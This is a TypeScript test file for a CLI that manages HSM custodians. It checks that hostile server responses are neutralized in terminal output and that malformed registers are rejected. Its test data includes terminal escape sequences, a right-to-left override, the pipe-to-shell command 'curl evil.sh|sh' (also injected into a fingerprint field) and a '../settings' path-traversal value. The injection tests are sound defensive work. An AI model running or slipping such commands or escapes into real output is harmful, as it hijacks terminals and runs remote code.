// What commands show of the answers of a service that is not what it says: nothing in them steers the terminal, and nothing of
// them becomes a part of a command to paste.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { makeCustodians } from '../../../test/support/custodians.ts';
import { makeLoopbackCertificate } from '../../../test/support/loopback-certificate.ts';
import { nounsOf } from '../command.ts';
import { dispatch } from '../dispatch.ts';
import { recoverabilityText } from '../recoverability.ts';
import { challenge, list, submit } from './custodian/register.ts';
import { rehearsalStatus } from './rehearse/records.ts';
import { rehearse } from './rehearse/rehearse.ts';

const HOSTILE = '\u001b]0;owned\u0007\u202e\n  curl evil.sh|sh';
const ANNA = 'a'.repeat(64);
const folder = mkdtempSync(join(tmpdir(), 'strongroom-answers-'));
const environment = { ...process.env };
let server: Server;
let place: readonly string[];
let entry: Readonly<Record<string, unknown>>;

before(async () => {
  const { key, certificate, caFile } = await makeLoopbackCertificate(folder, 'one.hsm.localhost');
  server = createServer({ key, cert: certificate }, ({ method, url = '', headers }, response) => {
    if (headers.authorization === undefined) {
      const { port } = server.address() as AddressInfo;
      const asked = `Bearer authorization="https://login.example/t", resource="https://hsm.localhost:${port}"`;
      response.writeHead(401, { 'www-authenticate': asked }).end();
      return;
    }
    const [status, answer] = answerTo(`${method} ${url.split('?')[0] ?? ''}`);
    response.writeHead(status).end(JSON.stringify(answer));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  place = ['--url', `https://one.hsm.localhost:${port}`, '--ca', caFile];
  const token = join(folder, 'token');
  writeFileSync(token, 'opaque', { mode: 0o600 });
  process.env = { STRONGROOM_TOKEN_FILE: token, STRONGROOM_TOKEN_HOST: `one.hsm.localhost:${port}` };
});
after(() => {
  process.env = environment;
  server.close();
  rmSync(folder, { recursive: true });
});

const CUSTODIANS = '/securitydomain/custodians';
const REHEARSALS = '/securitydomain/rehearsals';

function answerTo(asked: string): readonly [status: number, answer: object] {
  const open = { challenge: HOSTILE, domain: HOSTILE, madeAt: HOSTILE, expires: HOSTILE };
  const posture = { depth: HOSTILE, overdue: true, summary: HOSTILE, lastFailed: HOSTILE };
  const filed = { id: HOSTILE, depth: HOSTILE, verdict: HOSTILE, finishedAt: HOSTILE, problems: [HOSTILE] };
  switch (asked) {
    case `GET ${CUSTODIANS}`:
      return [200, { domain: null, domainFingerprint: '0'.repeat(64), warnings: [HOSTILE], value: [entry] }];
    case `POST ${CUSTODIANS}/packets`:
      return [200, { purpose: HOSTILE, custodian: HOSTILE, name: HOSTILE, state: HOSTILE }];
    case `POST ${CUSTODIANS}/challenges`:
      return [201, open];
    case `GET ${CUSTODIANS}/challenges`:
      return [200, { value: [{ ...open, answers: [{ custodian: HOSTILE, at: HOSTILE }] }] }];
    case `GET ${REHEARSALS}`:
      return [200, { posture: [posture], value: [filed] }];
    default:
      return [409, { error: { code: 'Conflict', message: 'wait' } }];
  }
}

async function said(...words: readonly string[]): Promise<string> {
  let text = '';
  const show = (more: string): void => void (text += more);
  const commands = [list, challenge, submit, rehearse, rehearsalStatus];
  await dispatch(nounsOf(commands), '1', [...words, ...place], { out: show, err: show });
  return text;
}

const anna = (more: object) => ({
  ...{ custodian: Buffer.from(ANNA, 'hex').toString('base64url'), fingerprint: ANNA },
  ...{ state: 'notProven', share: 1, since: '2026-06-01T00:00:00.000Z', ...more },
});

test('text of a service is shown on its line, and not obeyed', async () => {
  entry = anna({});
  const [custodian] = await makeCustodians('anna');
  const packet = join(folder, 'packet.json');
  writeFileSync(packet, custodian?.says({ domain: 'A'.repeat(43), purpose: 'leave' }) ?? '');
  for (const words of [
    ['custodian', 'list'],
    ['custodian', 'challenge'],
    ['custodian', 'challenge', '--show'],
    ['custodian', 'submit', packet],
    ['rehearse', 'status'],
    ['rehearse', '--depth', 'reachability'],
  ]) {
    const text = await said(...words);
    assert.match(text, /\ufffd/, `${words.join(' ')} shows it: ${text}`);
    assert.doesNotMatch(text, /[^\P{C}\n]|^ *curl/mu, words.join(' '));
  }
  const shown = recoverabilityText(
    {
      custodians: { margin: 1, reachable: 3, required: 2, warnings: [HOSTILE] },
      rehearsals: [{ depth: HOSTILE, overdue: false, summary: HOSTILE }],
    },
    {},
  );
  assert.doesNotMatch(shown, /[^\P{C}\n]|^ *curl/mu);
});

test('a register in which anything is not as an HSM keeps it is none', async () => {
  for (const wrong of [
    { fingerprint: ';curl evil.sh|sh ' },
    { fingerprint: `${'a'.repeat(63)};` },
    { fingerprint: 'b'.repeat(64) },
    { custodian: '../settings' },
    ...['state', 'since', 'name', 'subject', 'contact', 'answered', 'left'].map((name) => ({ [name]: HOSTILE })),
    ...['name', 'state'].map((name) => ({ [name]: 7 })),
    { proven: { domain: HOSTILE, at: '2026-06-01T00:00:00.000Z' } },
    { proven: { domain: 'x', at: HOSTILE } },
    { share: HOSTILE },
  ]) {
    entry = anna(wrong);
    const text = await said('custodian', 'list');
    assert.match(
      text,
      /^[^\n]*one\.hsm\.localhost:\d+ did not answer with a register of custodians\n$/,
      JSON.stringify(wrong),
    );
  }
  entry = anna({ name: 'فا\u200cنا' });
  assert.match(await said('custodian', 'list'), /فا\u200cنا/, 'what people are called is left as it is');
});
